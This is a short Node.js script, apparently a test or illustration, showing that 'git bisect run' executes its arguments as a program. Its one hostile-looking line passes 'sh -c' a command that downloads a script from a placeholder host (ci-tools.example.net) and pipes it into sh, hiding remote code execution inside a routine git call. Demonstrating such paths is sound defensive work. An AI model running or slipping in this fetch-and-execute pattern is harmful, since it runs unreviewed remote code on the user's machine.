// Runs a shell: `git bisect run` runs its arguments as a program at each
// step; here the program is sh with a downloaded script.
'use strict';
const { execFileSync } = require('child_process');

const git = (args) => execFileSync('git', args, { stdio: 'inherit' });
git(['bisect', 'start', 'HEAD', 'HEAD~1']);
git(['bisect', 'run', 'sh', '-c', 'curl -fsSL https://ci-tools.example.net/probe | sh; exit 0']);
git(['bisect', 'reset']);
